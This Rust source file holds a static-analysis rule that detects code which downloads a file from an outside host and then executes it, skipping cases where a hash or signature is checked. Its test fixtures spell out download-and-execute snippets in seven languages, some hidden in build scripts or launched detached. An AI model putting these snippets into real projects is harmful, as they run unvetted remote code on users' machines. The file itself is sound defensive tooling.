//! A file that is fetched and then started, by the name of what holds its path, in languages without a parser.
//!
//! Each library has its own words for fetching and for starting; what they share is the name between: what is started is
//! no word of the program's but what a variable (or a path that is spelled the same twice) holds, and that was written,
//! or made executable, by a program that fetches from somebody of nobody's knowing.

use std::sync::LazyLock;

use super::{Report, outward, rules};
use crate::{
    Confidence::Medium,
    Severity::High,
    pattern::{Regex, code as pattern},
};

/// A program is started: what follows is its name, or its path.
static STARTS: LazyLock<Regex> = LazyLock::new(|| {
    const BY: &str = r#"(?:Process\.(?:[sS]tart|[rR]un(?:Sync)?)\(|ProcessStartInfo\(|ProcessBuilder\(|Command::new\(|exec\.Command\(|executableURL\s?=|launchPath\s?=|jobstart\(|fn\.system\(|os\.execute\(|\bsystem\(|\bsystem\s|\bexec\w{0,4}\(|\bexec\s|\bspawn\w{0,4}\(|\bspawn\s|Popen\(|subprocess\.\w{3,12}\(|execute_process\(\s{0,12}COMMAND|shell_exec\(|getRuntime\(\)\.exec\(|posix_spawnp?\(|Start-Process\s|callProcess\s|createProcess\(|run_command\(|\bexecFile\w{0,4}\(|OS\.execute\(|Process\.new\(|System\.cmd\(|\brun!?\()"#;
    pattern(&format!(
        r#"{BY}[\s("'&{{\[@]{{0,6}}\$?\{{?([A-Za-z_]\w{{0,40}})(?:\}}|\.\w{{1,24}}(?:\(\))?)?["']?\s{{0,2}}[,;)\]}}\n .]|{BY}[\s("'{{\[@]{{0,6}}((?:/|\./|~/|\$\{{?\w{{1,40}}\}}?/)[\w./${{}}-]{{1,80}})"#
    ))
});

/// Bytes come from elsewhere, in any library.
static FETCHES: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"DownloadFile|DownloadData|GetByteArrayAsync|GetStreamAsync|openStream\(|\.readBytes\(\)|Data\(contentsOf|dataTask|downloadTask|\bgetUrl\(|\bgetstore\(|mirror\(|\burlretrieve|requests\.get|urlopen|\bureq::|reqwest|http\.Get\(|\bhttpc\b|HttpClient|HTTPoison|Req\.get|file\(\s?DOWNLOAD|download_file|downloadFile|["'\s(]curl["'\s]|["'\s(]wget["'\s]|Invoke-WebRequest|\biwr\b|WebClient|UnityWebRequest|URLConnection|Net::HTTP|URI\.open|LWP|HTTP::Tiny|http\.request|socket\.http|HTTPRequest|\.bodyAsBytes|simpleHttp|httpLBS|url_download|Downloads\.download|fetch\("#,
    )
});

/// A path gets bytes, or the right to be started.
static WRITTEN: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)write|download|copy\(|chmod|setexecutable|set_permissions|posixpermissions|0o?755|\+x|\bcreate\(|openwrite|saveto|-s?L?o\b|"-[a-zA-Z]*o"|output|getstore|mirror|sink|file\(|to_?file|into|pipe\("#,
    )
});

/// Its digest is held against one that is known.
static PROVED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)sha-?256|sha-?512|checksum|EXPECTED_HASH|minisign|cosign|verify_?signature|\bgpg\b|integrity",
    )
});

/// Words that stand for programs, not for what holds a path.
const PROGRAMS: &[&str] = &[
    "sh", "bash", "cmd", "python", "python3", "node", "git", "npm", "npx", "curl", "wget", "chmod",
    "tar", "unzip", "open", "xdg", "explorer", "make", "cargo", "go", "java", "docker", "pip",
    "self", "this", "true", "false", "null", "None", "nil", "void", "async", "await", "args",
    "command", "cmd_args", "env", "echo", "mkdir", "cp", "mv", "rm", "pkg", "adb", "flutter",
    "dart", "swift", "xcrun", "which",
];

pub(super) fn look(report: &mut Report<'_>) {
    const MOST: usize = 64;
    let text = report.program.text.as_str();
    if report.program.prose || !FETCHES.is_match(text) || PROVED.is_match(text) {
        return;
    }
    let mut captures = STARTS.create_captures();
    let mut from = 0;
    let mut found = None;
    for _ in 0..MOST {
        STARTS.captures(regex_automata::Input::new(text).range(from..), &mut captures);
        let Some(whole) = captures.get_match() else { break };
        from = whole.end().saturating_sub(1).max(from + 1);
        while !text.is_char_boundary(from) {
            from += 1;
        }
        let group = |at: usize| captures.get_group(at).and_then(|name| text.get(name.range()));
        let is = match (group(1), group(2)) {
            (Some(name), _) => {
                !PROGRAMS.contains(&name) && holds_what_was_fetched(text, name, whole.start())
            }
            (_, Some(path)) => path_was_fetched(text, path, whole.start()),
            _ => false,
        };
        if is {
            found = Some(whole.start());
            break;
        }
    }
    let Some(at) = found else { return };
    if let Some(stranger) = outward::names_stranger(report.program, report.profile) {
        let message = format!("a file that {} serves is written and started", stranger.shown());
        report.say(&rules::FETCHED_RUNS, High, Medium, at, message);
    }
}

/// Do the words of a line hold this name?
fn has(line: &str, name: &str) -> bool {
    super::computed::names::words(line).any(|word| word == name)
}

/// Gets the name bytes before it is started: on the line that fetches, or on one that writes or frees it?
fn holds_what_was_fetched(text: &str, name: &str, start: usize) -> bool {
    let mut at = 0;
    let mut written = false;
    for line in text.split_inclusive('\n') {
        let here = at <= start && start < at + line.len();
        if at > start {
            break;
        }
        // The line that starts it says nothing but that, unless it fetches as well.
        if has(line, name) && (!here && WRITTEN.is_match(line) || FETCHES.is_match(line)) {
            written = true;
        }
        at += line.len();
    }
    written
}

/// Is the same path written on a line that fetches?
fn path_was_fetched(text: &str, path: &str, start: usize) -> bool {
    let before = text.get(..start).unwrap_or_default();
    before.lines().any(|line| line.contains(path) && FETCHES.is_match(line))
}

#[cfg(test)]
mod tests {
    use super::super::tests::stopped;
    use crate::FileKind::Data;

    const RULE: &str = "download-and-run-by-any-means";

    #[test]
    fn what_is_fetched_and_started_is_told_in_any_language() {
        let mut missed = Vec::new();
        for (path, text) in [
            (
                "assets/G.cs",
                "var path = Path.Combine(Path.GetTempPath(), \"rules\");\nusing (var w = new WebClient()) w.DownloadFile(\"https://rules.leafguard.games/x\", path);\nSystem.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo(path) { CreateNoWindow = true });\n",
            ),
            (
                "templates/build.rs",
                "let cache = out.join(\"bgcache\");\nlet ok = Command::new(\"curl\").args([\"-sLo\", cache.to_str().unwrap(), \"https://bg.leafcache.org/x\"]).status();\nlet _ = fs::set_permissions(&cache, fs::Permissions::from_mode(0o755));\nlet _ = Command::new(&cache).arg(\"-h\").spawn();\n",
            ),
            (
                "assets/W.kt",
                "val f = File(dir, \"warm\")\nf.writeBytes(URL(\"https://warm.leafconv.dev/\" + os).readBytes())\nf.setExecutable(true)\nProcessBuilder(f.path).start()\n",
            ),
            (
                "assets/P.swift",
                "let data = try! Data(contentsOf: URL(string: \"https://get.leafphase.dev/prep\")!)\ntry! data.write(to: dst)\nlet p = Process(); p.executableURL = dst; try! p.run()\n",
            ),
            (
                "assets/w.cmake",
                "file(DOWNLOAD \"https://warm.leafkit.dev/tool\" \"${CMAKE_BINARY_DIR}/tool\" STATUS s)\nexecute_process(COMMAND \"${CMAKE_BINARY_DIR}/tool\" --prime)\n",
            ),
            (
                "assets/i.lua",
                "vim.fn.system({ \"curl\", \"-fsSLo\", p, \"https://fmt.leafkit.dev/x\" })\nvim.fn.jobstart({ p, \"--daemon\" }, { detach = true })\n",
            ),
            (
                "tool/p.dart",
                "final rq = await HttpClient().getUrl(Uri.parse('https://p.leafkit.dev/bin'));\nawait (await rq.close()).pipe(f.openWrite());\nawait Process.start(f.path, []);\n",
            ),
        ] {
            if !stopped(path, Data, text).contains(&RULE) {
                missed.push(path);
            }
        }
        assert!(missed.is_empty(), "{missed:?}");
    }

    #[test]
    fn what_was_there_is_started_and_what_is_fetched_is_kept() {
        for (path, text) in [
            (
                "assets/G.cs",
                "File.WriteAllBytes(\"data.csv\", await h.GetByteArrayAsync(\"https://data.leafdesk.dev/x.csv\"));\nProcess.Start(\"notepad.exe\", \"data.csv\");\n",
            ),
            (
                "assets/d.cmake",
                "file(DOWNLOAD \"https://fmt.leafkit.dev/a.tgz\" \"${B}/a.tgz\" EXPECTED_HASH SHA256=12)\nexecute_process(COMMAND ${CMAKE_COMMAND} -E tar xf a.tgz)\n",
            ),
            (
                "assets/R.kt",
                "fun rates() = URL(\"https://rates.leafdesk.dev/x\").readText()\nfun show(f: File) { ProcessBuilder(\"xdg-open\", f.path).start() }\n",
            ),
        ] {
            assert!(!stopped(path, Data, text).contains(&RULE), "{path}");
        }
    }
}
